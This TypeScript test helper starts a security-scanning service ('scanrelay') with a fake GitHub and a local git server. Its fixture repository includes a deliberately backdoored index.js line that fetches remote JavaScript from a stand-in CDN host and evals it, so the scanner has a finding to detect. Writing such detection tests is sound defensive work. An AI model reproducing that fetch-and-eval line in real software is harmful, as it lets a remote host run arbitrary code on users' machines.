import type { ChildProcess } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import {
  captureOutput,
  createApiKey,
  makeTempDir,
  spawnCli,
  stopChild,
  waitForListening,
} from '@scanrelay/test-utils';
import {
  createFakeGitHub,
  createGitHttpServer,
  type FakeGitHub,
  type GitHttpServer,
} from '@scanrelay/testkit';

const GITHUB_TOKEN = 'ghp_action-test-token-3c9e1f';

/** A repository with a critical `patterns` finding (fetched code evaluated) on line 1 of index.js. */
const VULNERABLE_FILES = {
  'index.js': "const run = async () => eval(await (await fetch('https://cdn.example.com/x.js')).text());\n",
  'README.md': '# skill\n',
};

export interface ActionService {
  url: string;
  /** An upload+read key of tenant acme. */
  apiKey: string;
  dir: string;
  repo: GitHttpServer;
  commit: string;
  /** Records the `external-scan` dispatches, as GitHub would receive them. */
  github: FakeGitHub;
  /** The secret `serve` generated for signed scan results (SQLite data dir). */
  callbackSecret(): string;
  log(): string;
  close(): Promise<void>;
}

/**
 * `scanrelay serve` as a process on a fresh SQLite data dir (the real API and its embedded worker on
 * loopback), with the `patterns` provider dispatched to GitHub (a fake GitHub records the dispatch;
 * the tests play the workflow with the Action), and a git repository served over smart HTTP.
 */
export async function startActionService(): Promise<ActionService> {
  const tmp = makeTempDir('scanrelay-action-service-');
  const dataDir = path.join(tmp.dir, 'data');
  const apiKey = await createApiKey(dataDir);
  const repo = await createGitHttpServer({ name: 'skill' });
  const commit = await repo.commit(VULNERABLE_FILES, 'a skill with a backdoor');
  const github = await createFakeGitHub({ tokens: [GITHUB_TOKEN] });
  const config = path.join(tmp.dir, 'scanrelay.config.yaml');
  const providers = [{ provider: 'patterns', backend: { kind: 'github', owner: 'acme', repo: 'scanners' } }];
  writeFileSync(config, JSON.stringify({ sast: { providers } }));
  let log: () => string = () => '';
  let serve: ChildProcess | undefined;
  const close = async () => {
    await stopChild(serve);
    await github.close();
    await repo.close();
    tmp.cleanup();
  };
  try {
    serve = spawnCli(['serve', '--port', '0', '--data-dir', dataDir, '--config', config], {
      env: {
        DATABASE_URL: '',
        REDIS_URL: '',
        SCANRELAY_SAST_CALLBACK_URL: '',
        SCANRELAY_SAST_CALLBACK_SECRET: '',
        SCANRELAY_SAST_SIGNING_KEY: '',
        SCANRELAY_GITHUB_TOKEN: GITHUB_TOKEN,
        SCANRELAY_GITHUB_API_URL: github.url,
        SCANRELAY_ALLOW_PRIVATE_URLS: 'true',
        SCANRELAY_ALLOW_HTTP_URLS: 'true',
      },
      cwd: tmp.dir,
    }).child;
    log = captureOutput(serve);
    const url = await waitForListening(serve, log);
    return {
      url,
      apiKey,
      dir: tmp.dir,
      repo,
      commit,
      github,
      callbackSecret: () => readFileSync(path.join(dataDir, 'sast-callback.secret'), 'utf8').trim(),
      log: () => log(),
      close,
    };
  } catch (err) {
    await close();
    throw err;
  }
}
